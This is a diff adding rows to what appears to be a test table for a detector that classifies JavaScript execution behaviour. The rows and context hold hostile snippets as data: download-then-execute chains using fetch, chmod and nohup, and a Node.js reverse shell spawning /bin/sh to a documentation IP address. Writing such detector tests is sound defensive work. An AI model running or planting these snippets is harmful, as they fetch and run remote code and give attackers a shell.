@@ -316,6 +316,16 @@ table('JavaScript rows: execution', [
     'write-file carries:download | run-downloaded',
   ],
   [
+    'downloaded, and an argument of another program',
+    `fetch('${URL}/a').then(r => r.arrayBuffer()).then(b => { require('fs').writeFileSync('/srv/a.wav', Buffer.from(b)); ${CP}.execFile('ffmpeg', ['-i', '/srv/a.wav']) })`,
+    'write-file carries:download | run-program',
+  ],
+  [
+    'downloaded, made executable and run by a shell',
+    `fetch('${URL}/a').then(r => r.arrayBuffer()).then(b => { require('fs').writeFileSync('/tmp/a', Buffer.from(b)); ${CP}.exec('chmod +x /tmp/a && nohup /tmp/a &') })`,
+    'write-file carries:download | run-downloaded',
+  ],
+  [
     'reverse shell',
     "const n=require('net'),s=require('child_process').spawn('/bin/sh');const c=new n.Socket();c.connect(4444,'203.0.113.7',()=>{c.pipe(s.stdin);s.stdout.pipe(c)})",
     'open-socket to:ip | connect-shell',
